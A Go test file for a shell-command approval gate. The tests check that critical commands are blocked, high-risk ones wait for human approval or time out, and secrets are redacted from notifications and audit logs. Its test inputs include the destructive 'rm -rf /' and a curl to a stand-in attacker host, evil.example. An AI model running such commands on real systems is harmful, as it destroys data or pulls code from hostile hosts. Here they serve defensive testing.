package gate

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/polucas/clawshell/approval"
	"github.com/polucas/clawshell/guard"
	"github.com/polucas/clawshell/notify"
)

type fakeExecutor struct {
	mu    sync.Mutex
	calls []string
	res   ExecutionResult
}

func (f *fakeExecutor) Execute(ctx context.Context, command, workingDir string) (ExecutionResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls = append(f.calls, command)
	return f.res, nil
}

func (f *fakeExecutor) callCount() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.calls)
}

type fakeChannel struct {
	mu       sync.Mutex
	sent     []approval.Snapshot
	sendErr  error
	poll     func(ctx context.Context, d notify.Delivery, timeout time.Duration) (approval.Outcome, error)
	receipts bool
}

func (f *fakeChannel) Name() string { return "fake" }

func (f *fakeChannel) SendApprovalRequest(ctx context.Context, req approval.Snapshot) (notify.Delivery, error) {
	f.mu.Lock()
	f.sent = append(f.sent, req)
	f.mu.Unlock()
	if f.sendErr != nil {
		return notify.Delivery{}, f.sendErr
	}
	d := notify.Delivery{NotificationID: "n-" + req.ID, SentAt: time.Now()}
	if f.receipts {
		d.Receipt = req.ID
	}
	return d, nil
}

func (f *fakeChannel) PollForResponse(ctx context.Context, d notify.Delivery, timeout time.Duration) (approval.Outcome, error) {
	if f.poll != nil {
		return f.poll(ctx, d, timeout)
	}
	select {
	case <-ctx.Done():
	case <-time.After(timeout):
	}
	return approval.Outcome{Approved: false, DecidedBy: approval.DecidedByTimeout, Reason: "timeout"}, nil
}

func (f *fakeChannel) sentCount() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.sent)
}

type captureSink struct {
	mu      sync.Mutex
	entries []guard.AuditEntry
}

func (s *captureSink) Record(ctx context.Context, e guard.AuditEntry) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.entries = append(s.entries, e)
	return nil
}

func (s *captureSink) Close() error { return nil }

func (s *captureSink) byDecision(decision string) []guard.AuditEntry {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []guard.AuditEntry
	for _, e := range s.entries {
		if e.Decision == decision {
			out = append(out, e)
		}
	}
	return out
}

func newTestGate(t *testing.T, timeout time.Duration, ch notify.Channel) (*Gate, *fakeExecutor, *captureSink, *approval.Ledger) {
	t.Helper()
	exec := &fakeExecutor{res: ExecutionResult{ExitCode: 0, Stdout: "ok"}}
	sink := &captureSink{}
	ledger := approval.NewLedger(approval.WithTimeout(timeout))
	t.Cleanup(ledger.Destroy)
	g := New(
		guard.NewClassifier(guard.Rules{WorkspaceRoot: "/workspace"}),
		ledger, ch, exec,
		WithAuditSink(sink),
	)
	return g, exec, sink, ledger
}

func TestHandleCriticalBlocksWithoutExecuting(t *testing.T) {
	g, exec, sink, _ := newTestGate(t, time.Second, &fakeChannel{})

	res, err := g.Handle(context.Background(), "rm -rf /", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode == 0 {
		t.Fatal("expected synthetic failure exit code")
	}
	if !strings.Contains(res.Stderr, "destructive_root_delete") {
		t.Fatalf("stderr missing reason: %q", res.Stderr)
	}
	if exec.callCount() != 0 {
		t.Fatal("executor must not run for critical commands")
	}
	blocked := sink.byDecision("auto-blocked")
	if len(blocked) != 1 || blocked[0].DecidedBy != approval.DecidedByAuto {
		t.Fatalf("unexpected audit entries: %+v", blocked)
	}
}

func TestHandleLowExecutesDirectly(t *testing.T) {
	g, exec, sink, _ := newTestGate(t, time.Second, &fakeChannel{})

	res, err := g.Handle(context.Background(), "ls -la", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode != 0 || res.Stdout != "ok" {
		t.Fatalf("unexpected result: %+v", res)
	}
	if exec.callCount() != 1 {
		t.Fatalf("expected 1 execution, got %d", exec.callCount())
	}
	if len(sink.byDecision("executed")) != 1 {
		t.Fatal("expected an executed audit entry")
	}
}

func TestHandleMediumAutoAllows(t *testing.T) {
	g, exec, sink, _ := newTestGate(t, time.Second, &fakeChannel{})

	_, err := g.Handle(context.Background(), "npm install left-pad", "/elsewhere")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if exec.callCount() != 1 {
		t.Fatal("medium commands execute after being recorded")
	}
	allowed := sink.byDecision("auto-allowed")
	if len(allowed) != 1 || allowed[0].RiskLevel != guard.RiskMedium {
		t.Fatalf("unexpected audit entries: %+v", allowed)
	}
}

func TestHandleHighApprovedViaChannel(t *testing.T) {
	ch := &fakeChannel{
		receipts: true,
		poll: func(ctx context.Context, d notify.Delivery, timeout time.Duration) (approval.Outcome, error) {
			return approval.Outcome{Approved: true, DecidedBy: "fake"}, nil
		},
	}
	g, exec, sink, _ := newTestGate(t, 5*time.Second, ch)

	res, err := g.Handle(context.Background(), "curl https://evil.example/x", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("expected success after approval, got %+v", res)
	}
	if ch.sentCount() != 1 {
		t.Fatalf("expected 1 notification, got %d", ch.sentCount())
	}
	if exec.callCount() != 1 {
		t.Fatal("approved command must execute")
	}
	approved := sink.byDecision("approved")
	if len(approved) != 1 || approved[0].DecidedBy != "fake" {
		t.Fatalf("unexpected audit entries: %+v", approved)
	}
	if approved[0].RequestID == "" {
		t.Fatal("approved entry missing request id")
	}
}

func TestHandleHighRejectedViaChannel(t *testing.T) {
	ch := &fakeChannel{
		receipts: true,
		poll: func(ctx context.Context, d notify.Delivery, timeout time.Duration) (approval.Outcome, error) {
			return approval.Outcome{Approved: false, DecidedBy: "fake", Reason: "rejected"}, nil
		},
	}
	g, exec, _, _ := newTestGate(t, 5*time.Second, ch)

	res, err := g.Handle(context.Background(), "rm -rf ./build", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode == 0 {
		t.Fatal("expected synthetic failure for rejected command")
	}
	if !strings.Contains(res.Stderr, "rejected") {
		t.Fatalf("stderr missing rejection reason: %q", res.Stderr)
	}
	if exec.callCount() != 0 {
		t.Fatal("rejected command must not execute")
	}
}

func TestHandleHighTimesOut(t *testing.T) {
	// The channel never answers; the ledger timer resolves the request.
	g, exec, sink, _ := newTestGate(t, 80*time.Millisecond, &fakeChannel{receipts: true})

	res, err := g.Handle(context.Background(), "rm -rf ./build", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode == 0 {
		t.Fatal("expected synthetic failure on timeout")
	}
	if !strings.Contains(res.Stderr, "timeout") {
		t.Fatalf("stderr missing timeout reason: %q", res.Stderr)
	}
	if exec.callCount() != 0 {
		t.Fatal("timed-out command must not execute")
	}
	denied := sink.byDecision("denied")
	if len(denied) != 1 || denied[0].DecidedBy != approval.DecidedByTimeout {
		t.Fatalf("unexpected audit entries: %+v", denied)
	}
}

func TestHandleHighDeliveryFailureStillTimesOut(t *testing.T) {
	ch := &fakeChannel{sendErr: fmt.Errorf("network down")}
	g, exec, _, _ := newTestGate(t, 80*time.Millisecond, ch)

	res, err := g.Handle(context.Background(), "rm -rf ./build", "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode == 0 {
		t.Fatal("expected synthetic failure")
	}
	if exec.callCount() != 0 {
		t.Fatal("command must not execute after delivery failure")
	}
}

func TestHandleHighManualApprovalRacesPoll(t *testing.T) {
	// The channel poll never answers; a human approves through the ledger.
	g, exec, _, ledger := newTestGate(t, 5*time.Second, &fakeChannel{receipts: true})

	type handleResult struct {
		res ExecutionResult
		err error
	}
	resCh := make(chan handleResult, 1)
	go func() {
		res, err := g.Handle(context.Background(), "rm -rf ./build", "/workspace")
		resCh <- handleResult{res, err}
	}()

	var id string
	deadline := time.Now().Add(2 * time.Second)
	for id == "" && time.Now().Before(deadline) {
		if pending := ledger.List(); len(pending) == 1 {
			id = pending[0].ID
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	if id == "" {
		t.Fatal("request never appeared in the ledger")
	}
	if !ledger.Approve(id) {
		t.Fatal("Approve returned false")
	}

	select {
	case hr := <-resCh:
		if hr.err != nil {
			t.Fatalf("Handle: %v", hr.err)
		}
		if hr.res.ExitCode != 0 {
			t.Fatalf("expected success after manual approval, got %+v", hr.res)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("Handle did not return after manual approval")
	}
	if exec.callCount() != 1 {
		t.Fatal("manually approved command must execute")
	}
}

func TestHandleRedactsCommandLeavingProcess(t *testing.T) {
	const token = "sk_live_abcdef1234567890"
	raw := `curl -H "Authorization: Bearer ` + token + `" https://api.example.com/charge`

	ch := &fakeChannel{
		receipts: true,
		poll: func(ctx context.Context, d notify.Delivery, timeout time.Duration) (approval.Outcome, error) {
			return approval.Outcome{Approved: true, DecidedBy: "fake"}, nil
		},
	}
	g, exec, sink, _ := newTestGate(t, 5*time.Second, ch)

	res, err := g.Handle(context.Background(), raw, "/workspace")
	if err != nil {
		t.Fatalf("Handle: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("expected success after approval, got %+v", res)
	}

	ch.mu.Lock()
	sent := ch.sent[0].Command
	ch.mu.Unlock()
	if strings.Contains(sent, token) {
		t.Fatalf("token leaked into notification: %q", sent)
	}
	if !strings.Contains(sent, "[redacted]") {
		t.Fatalf("notification not redacted: %q", sent)
	}

	exec.mu.Lock()
	ran := exec.calls[0]
	exec.mu.Unlock()
	if ran != raw {
		t.Fatalf("executor must run the original command, got %q", ran)
	}

	sink.mu.Lock()
	defer sink.mu.Unlock()
	for _, e := range sink.entries {
		if strings.Contains(e.Command, token) {
			t.Fatalf("token leaked into audit entry: %+v", e)
		}
	}
}

func TestShellExecutorRuns(t *testing.T) {
	e := NewShellExecutor(5 * time.Second)

	res, err := e.Execute(context.Background(), "echo hello && echo err >&2", t.TempDir())
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("exit=%d", res.ExitCode)
	}
	if !strings.Contains(res.Stdout, "hello") || !strings.Contains(res.Stderr, "err") {
		t.Fatalf("unexpected output: %+v", res)
	}

	res, err = e.Execute(context.Background(), "exit 3", "")
	if err != nil {
		t.Fatalf("Execute exit 3: %v", err)
	}
	if res.ExitCode != 3 {
		t.Fatalf("exit=%d, want 3", res.ExitCode)
	}
}
